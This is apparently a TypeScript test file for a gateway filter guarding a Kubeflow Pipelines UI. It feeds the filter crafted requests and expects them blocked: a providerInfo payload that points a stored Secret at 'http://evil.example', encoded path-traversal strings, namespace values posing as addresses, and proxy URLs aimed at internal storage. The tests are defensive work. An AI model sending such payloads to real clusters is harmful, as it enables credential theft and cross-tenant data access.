import { withAdjustments } from '../../../builds/kubeflow/overlay/adjustments';
import { pipelinesPageBounds } from '../../../builds/kubeflow/overlay/pipelines-page';
import type { KubernetesObject } from '../../../builds/kubernetes/objects';
import { pipelinesObjects } from '../../../local/codebuild/distribution/pipelines-parts';
import { passFilter } from '../../support/gateway-filter';
import { configurationWith, found } from '../support';

const pass = (path: string, referer?: string): string => {
  const { refused, headers } = passFilter(pipelinesPageBounds, [
    [':path', path],
    ...(referer === undefined ? [] : [['referer', referer] as const]),
  ]);
  return refused ?? headers.find(([name]) => name === ':path')?.[1] ?? '';
};

const artifact = '/pipeline/artifacts/get?source=minio&bucket=mlpipeline&key=private-artifacts%2Fteam-a%2Fx';
const provider = encodeURIComponent(
  JSON.stringify({
    Provider: 's3',
    Params: { fromEnv: 'false', secretName: 'db', accessKeyKey: 'password', endpoint: 'http://evil.example' },
  }),
);

test.each([
  `&namespace=team-a&providerInfo=${provider}`,
  `&providerInfo=${provider}&namespace=team-a`,
  `&provider%49nfo=${provider}&namespace=team-a`,
  `&namespace[]=victim&namespace=team-a&providerInfo=${provider}`,
  `&namespace%5B%5D=victim&namespace=team-a`,
  `&name%73pace=victim&namespace=team-a`,
  `&namespace=team-a#&providerInfo=${provider}`,
])('the page is told no Secret and no address to send it to: %s', (more) => {
  expect(pass(artifact + more)).toBe(`${artifact}&namespace=team-a`);
});

test.each([
  'a@seaweedfs.kubeflow:8888/buckets/mlpipeline/private-artifacts/victim/x',
  'a%40seaweedfs.kubeflow%3A8888%2Fbuckets',
  'a%0A@seaweedfs.kubeflow:8888/',
  'team-a.evil',
  '',
  'team-a&namespace=victim',
])('nor a namespace that is an address: %s', (namespace) => {
  expect(pass(`${artifact}&namespace=${namespace}`)).toBe('403');
});

test('whatever the path is written like', () => {
  const provided = `?providerInfo=${provider}`;
  expect(pass(`/pipeline/ARTIFACTS/get${provided}`)).toBe('/pipeline/ARTIFACTS/get');
  expect(pass(`/pipeline/%61rtifacts/minio/mlpipeline/a/b${provided}&peek=9`)).toBe(
    '/pipeline/%61rtifacts/minio/mlpipeline/a/b?peek=9',
  );
  expect(pass('/pipeline/artifacts/%2e%2E/%2e%2e/buckets/mlpipeline?namespace=team-a')).toBe('403');
  expect(pass('/pipeline/artifacts/minio/mlpipeline/a%5c..%5cb')).toBe('403');
});

const viewer = `viewer-${'0a'.repeat(20)}`;
const tensorboard = `http://${viewer}-service.team-a.svc.cluster.local:80/tensorboard/${viewer}/`;
const proxied = (address: string): string => `/pipeline/apis/v1beta1/_proxy/${encodeURIComponent(address)}`;

test.each([
  'http://seaweedfs.kubeflow:8888/buckets/mlpipeline/private-artifacts/victim/',
  'seaweedfs.kubeflow:8888/',
  'http://viewer-0a-service.team-a.svc.cluster.local:80@seaweedfs.kubeflow/tensorboard/',
  'http://a@viewer-0a-service.team-a.svc.cluster.local:80/tensorboard/',
  `${tensorboard}_proxy/http://seaweedfs.kubeflow:8888/`,
])('fetches no address that a visitor names: %s', (address) => {
  for (const path of [
    proxied(address),
    proxied(address).replace('_proxy', '_PROXY'),
    proxied(encodeURIComponent(address)),
  ])
    expect(pass(path)).toBe('403');
  expect(pass('/pipeline/buckets/mlpipeline/', `https://kubeflow.example.com${proxied(address)}`)).toBe(
    '403',
  );
});

test('shows TensorBoards, and all that is no artifact, as before', () => {
  expect(pass(proxied(tensorboard))).toBe(proxied(tensorboard));
  const inside = '/pipeline/data/plugins_listing?providerInfo=x';
  expect(pass(inside, `https://kubeflow.example.com${proxied(tensorboard)}`)).toBe(inside);
  for (const path of [
    '/pipeline/',
    '/pipeline/apis/v2beta1/runs?namespace=team-a&filter=%7B%7D',
    '/pipeline/k8s/pod/logs?podname=x&podnamespace=team-a',
    '/jupyter/api/namespaces?providerInfo=x',
    '/notebook/team-a/x/_proxy/y',
    '/_pipeline',
  ])
    expect(pass(path)).toBe(path);
});

test('the page may read no Secret of any namespace', () => {
  const adjusted = withAdjustments('pipelines', pipelinesObjects as KubernetesObject[], {
    configuration: configurationWith(),
    vpcCidr: found.vpc.cidr,
  });
  const rules = adjusted
    .filter(({ kind, metadata }) => /Role$/.test(kind) && metadata.name === 'ml-pipeline-ui')
    .map((role) => role['rules']);
  expect(rules).toEqual([
    [{ apiGroups: [''], resources: ['pods', 'pods/log'], verbs: ['get'] }],
    [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get', 'list'] }],
  ]);
});
